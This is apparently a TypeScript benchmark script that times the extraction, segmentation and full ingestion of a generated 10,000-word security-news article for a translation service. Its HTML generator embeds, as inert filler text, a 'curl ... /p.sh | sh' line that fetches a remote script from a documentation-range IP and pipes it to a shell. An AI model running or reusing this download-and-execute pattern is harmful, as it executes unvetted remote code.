/**
 * npm run bench:ingest — ingestion of a generated 10,000-word English article, 20 times:
 * (1) extraction and segmenting alone (readability on linkedom), (2) the whole service,
 * ingestSource: fetch from the local fixture server over loopback, extract, and the one
 * transaction (snapshot, segments, attribution, audit). Prints p50/p95/max; asserts nothing.
 * The issue's goal: under 2 s.
 */
import { db } from "@/lib/db";
import { ingestSource } from "@/lib/services/translation/ingest-source";
import { startSourceFixtures } from "@/lib/test/source-fixtures";
import { extractSource } from "@/lib/translation/source/extract";

const RUNS = 20;
const WORDS = 10_000;

const VOCAB = (
  "attackers exploited the vulnerability in version 4.2.7 of the gateway to deploy ransomware across " +
  "hospital networks researchers said CVE-2026-41872 allowed remote code execution and the vendor " +
  "released a patch on Tuesday defenders should rotate credentials and block 203.0.113.77 immediately"
).split(" ");

/** A news page of `words` words: paragraphs, headings every few, lists, code, a table and figures, in site chrome. */
function generatedArticle(words: number): string {
  const parts: string[] = [];
  let count = 0;
  for (let i = 1; count < words; i++) {
    if (i % 12 === 0) parts.push(`<h2>Section ${i / 12}: what changed</h2>`);
    if (i % 9 === 0)
      parts.push(
        `<ul>${[1, 2, 3, 4].map((k) => `<li>Step ${k}: patch the gateway and check logs</li>`).join("")}</ul>`,
      );
    if (i % 15 === 0)
      parts.push(
        `<pre><code class="language-bash">curl -s https://203.0.113.${i % 250}/p.sh | sh\nsha256sum p.sh</code></pre>`,
      );
    if (i % 25 === 0)
      parts.push(
        `<figure><img src="/img/${i}.png" alt="Figure ${i}"><figcaption>Figure ${i}.</figcaption></figure>`,
      );
    if (i % 40 === 0)
      parts.push(
        `<table><tr><th>CVE</th><th>CVSS</th></tr><tr><td>CVE-2026-${1000 + i}</td><td>9.8</td></tr></table>`,
      );
    const sentence = Array.from({ length: 60 }, (_, k) => VOCAB[(i * 7 + k * 3) % VOCAB.length]).join(" ");
    parts.push(`<p>${sentence}.</p>`);
    count += 60;
  }
  const chrome = `<nav>${Array.from({ length: 80 }, (_, k) => `<a href="/c/${k}">Category ${k}</a>`).join(" ")}</nav>`;
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Bench article</title>
<meta property="og:site_name" content="Bench Security News"><meta name="author" content="Bench Writer">
<meta property="article:published_time" content="2026-11-01T10:00:00Z"></head>
<body>${chrome}<main><article><h1>Bench article</h1>${parts.join("\n")}</article></main><footer>© 2026</footer></body></html>`;
}

function report(label: string, ms: number[]) {
  const s = [...ms].sort((a, b) => a - b);
  const at = (p: number) => s[Math.min(s.length - 1, Math.ceil((p / 100) * s.length) - 1)]!;
  console.log(
    `${label.padEnd(44)} p50 ${at(50).toFixed(0).padStart(5)} ms   p95 ${at(95).toFixed(0).padStart(5)} ms   max ${s.at(-1)!.toFixed(0).padStart(5)} ms`,
  );
}

async function main() {
  const html = generatedArticle(WORDS);
  const words = html
    .replace(/<[^>]+>/g, " ")
    .split(/\s+/)
    .filter(Boolean).length;
  const first = extractSource(html, "https://bench.example/a");
  console.log(
    `article: ${words.toLocaleString("en")} words, ${(html.length / 1024).toFixed(0)} KB, ${first.segments.length} segments`,
  );

  const extractMs: number[] = [];
  for (let r = 0; r < RUNS; r++) {
    const t = performance.now();
    extractSource(html, "https://bench.example/a");
    extractMs.push(performance.now() - t);
  }
  report("extract + segment (readability, linkedom)", extractMs);

  const fixtures = await startSourceFixtures();
  fixtures.setPage("bench-article", html);
  const stamp = Date.now().toString(36);
  const user = await db.user.create({
    data: {
      email: `bench-ingest-${stamp}@bench.local`,
      passwordHash: "x",
      role: "TRANSLATOR",
      profile: { create: { publicId: `bi${stamp}`.slice(0, 12), displayName: "Bench translator" } },
    },
  });
  const category = await db.category.create({
    data: { slug: `bench-ingest-${stamp}`, name: `Bench ${stamp}` },
  });
  const actor = {
    id: user.id,
    role: user.role,
    status: user.status,
    displayName: "Bench translator",
    publicId: `bi${stamp}`,
  };
  const ingestMs: number[] = [];
  try {
    for (let r = 0; r < RUNS; r++) {
      const article = await db.article.create({
        data: {
          publicId: `b${stamp}${r}`.slice(0, 16),
          title: "基准译稿",
          bodyJson: { type: "doc", content: [] },
          authorId: user.id,
          translatorId: user.id,
          categoryId: category.id,
        },
      });
      const t = performance.now();
      await ingestSource(actor, {
        articleId: article.id,
        version: article.version,
        url: fixtures.url("bench-article"),
      });
      ingestMs.push(performance.now() - t);
    }
  } finally {
    await fixtures.close();
  }
  report("ingestSource (fetch + extract + transaction)", ingestMs);
  await db.$disconnect();
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
